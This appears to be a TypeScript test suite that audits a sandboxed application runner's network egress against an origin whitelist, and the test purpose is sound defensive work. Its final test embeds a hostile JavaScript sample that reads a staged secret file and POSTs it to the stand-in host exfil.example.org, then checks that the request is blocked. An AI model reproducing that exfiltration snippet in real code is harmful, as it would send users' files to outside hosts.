/**
 * The egress audit: run a seeded application end to end with every outgoing
 * request intercepted. Nothing may leave for a non-whitelisted origin, and
 * no request body may contain the staged file's bytes — the sealed /share
 * body included.
 */

import { describe, expect, it } from "vitest";

import { unseal } from "../src/crypto.js";
import { EgressBlocked, bodyContains, makeGuardedFetch, originAllowed } from "../src/netguard.js";
import { Runner, ApplicationError, resolveSource } from "../src/runner.js";
import { JsSandboxHost, RuntimeRegistry } from "../src/runtimes.js";
import { SandboxFiles, stageLocalFile } from "../src/sandbox.js";
import { HubClient } from "../src/api.js";
import { shareResult, receiveResult, tokenFromLink } from "../src/share.js";
import { ScriptedHost, hubClient, hubInfo, randomHandle } from "./helpers.js";

const STAGED_MARKER = "CONFIDENTIAL-PATIENT-ROWS-9f2c7a";

describe("origin matching", () => {
  it("accepts the whitelist and its wildcard, rejects the rest", () => {
    const own = "https://localhost:8443";
    expect(originAllowed("https://localhost:8443/applications", own)).toBe(true);
    expect(originAllowed("https://cdn.jsdelivr.net/pyodide/x.js", own)).toBe(true);
    expect(originAllowed("https://webr.r-wasm.org/v1/webr.mjs", own)).toBe(true);
    expect(originAllowed("https://pypi.org/simple/", own)).toBe(true);
    expect(originAllowed("https://files.pythonhosted.org/pkg.whl", own)).toBe(true);
    expect(originAllowed("https://raw.githubusercontent.com/a/b/main/app.R", own)).toBe(true);
    expect(originAllowed("https://r-wasm.org/", own)).toBe(false); // apex is not *.r-wasm.org
    expect(originAllowed("https://evil.example.com/", own)).toBe(false);
    expect(originAllowed("http://cdn.jsdelivr.net/", own)).toBe(false); // scheme matters
    expect(originAllowed("not a url", own)).toBe(false);
  });
});

describe("instrumented full run of a seeded application", () => {
  it("sends requests only to whitelisted origins and never leaks staged bytes", async () => {
    const hub = hubInfo();
    // The app's source lives on the whitelisted CDN; this test environment is
    // offline, so the layer *below* the guard serves that one origin. The
    // guard still vets and audits every request exactly as in production.
    const baseFetch: typeof fetch = async (input, init) => {
      if (String(input).startsWith("https://raw.githubusercontent.com/")) {
        return new Response("run_netanova <- function(m, k, s) { }", { status: 200 });
      }
      return fetch(input, init);
    };
    const guardedFetch = makeGuardedFetch(hub.url, baseFetch);
    const client = new HubClient(hub.url, guardedFetch);

    // netANOVA is a seeded R application with a path parameter; the scripted
    // host stands in for the interpreter and reads the staged file, as the
    // real application would.
    const manifest = await client.applicationDetail("netANOVA", "1.0.0");
    const registry = new RuntimeRegistry();
    registry.register("r", () => {
      return new ScriptedHost("r", (_source, _fn, args, host) => {
        const matrix = host.files.read(String(args[0]));
        host.files.write("clusters.txt", new TextEncoder().encode(`groups:${matrix.byteLength}\n`));
        return "clusters.txt";
      });
    });

    const sandbox = new SandboxFiles();
    const stagedContent = new TextEncoder().encode(`${STAGED_MARKER}\n1,2,3\n4,5,6\n`);
    const staged = stageLocalFile(sandbox, "matrix.csv", stagedContent);

    const source = await resolveSource(manifest, client, guardedFetch);
    const runner = new Runner(registry);
    const outcome = await runner.execute(
      {
        application: manifest,
        argumentValues: [staged.sandboxPath, 5, 0.05],
        stagedFiles: new Map([[staged.sandboxPath, stagedContent]]),
      },
      source,
    );
    expect(outcome.kind).toBe("file");

    // share the result (sealed) — the one permitted user-derived upload
    const sharer = randomHandle("sharer");
    await client.register(sharer, "pw");
    await client.login(sharer, "pw");
    const handle = await shareResult(outcome, "passphrase-볼", client);

    // ... and the recipient can open it with the passphrase alone
    const received = await receiveResult(tokenFromLink(handle.link)!, "passphrase-볼", client);
    expect(received.kind).toBe("file");

    // audit: every request allowed and on-whitelist
    expect(guardedFetch.audit.length).toBeGreaterThan(0);
    for (const entry of guardedFetch.audit) {
      expect(entry.allowed, entry.url).toBe(true);
      expect(originAllowed(entry.url, hub.url), entry.url).toBe(true);
    }
    const offWhitelist = guardedFetch.audit.filter((e) => !originAllowed(e.url, hub.url));
    expect(offWhitelist).toEqual([]);

    // audit: no request body contains the staged file's bytes
    const marker = new TextEncoder().encode(STAGED_MARKER);
    const stagedFull = stagedContent;
    for (const entry of guardedFetch.audit) {
      expect(bodyContains(entry.body, marker), `${entry.method} ${entry.url}`).toBe(false);
      expect(bodyContains(entry.body, stagedFull), `${entry.method} ${entry.url}`).toBe(false);
    }

    // the /share body exists, is sealed, and opens back to the result file
    const shareBody = guardedFetch.audit.find((e) => e.url.endsWith("/share") && e.method === "POST");
    expect(shareBody?.body).toBeDefined();
    const opened = await unseal(shareBody!.body!, "passphrase-볼");
    expect(opened.fileName).toBe("clusters.txt");
  });
});

describe("a hostile application cannot exfiltrate", () => {
  it("blocks fetch to a non-whitelisted origin from inside the sandbox", async () => {
    const { client, guardedFetch, hub } = hubClient();
    const registry = new RuntimeRegistry();
    registry.register("javascript", () => new JsSandboxHost(guardedFetch));
    const runner = new Runner(registry);

    const hostileSource = `
async function exfiltrate(data_path) {
  const stolen = sandbox.readFile(data_path);
  await fetch("https://exfil.example.org/collect", { method: "POST", body: stolen });
  return "<p>done</p>";
}
`;
    const sandbox = new SandboxFiles();
    const secret = new TextEncoder().encode(STAGED_MARKER);
    const staged = stageLocalFile(sandbox, "secret.bin", secret);

    let caught: unknown = null;
    try {
      await runner.execute(
        {
          application: {
            name: "hostile",
            version: "0.0.1",
            runtime: "javascript",
            short_description: "s",
            long_description: "l",
            tags: ["javascript"],
            source: { inline: "" },
            entry_point: {
              function: "exfiltrate",
              returns: "html",
              parameters: [{ name: "data_path", kind: "path", description: "x" }],
            },
          },
          argumentValues: [staged.sandboxPath],
          stagedFiles: new Map([[staged.sandboxPath, secret]]),
        },
        hostileSource,
      );
    } catch (error) {
      caught = error;
    }
    expect(caught).toBeInstanceOf(ApplicationError);
    expect((caught as ApplicationError).message).toContain("non-whitelisted origin blocked");

    // the attempt was recorded as blocked; nothing reached the network layer
    const attempt = guardedFetch.audit.find((e) => e.url.startsWith("https://exfil.example.org"));
    expect(attempt).toBeDefined();
    expect(attempt!.allowed).toBe(false);
    // EgressBlocked is thrown before the underlying fetch ever runs
    expect(caught).not.toBeInstanceOf(EgressBlocked); // wrapped as ApplicationError
  });
});
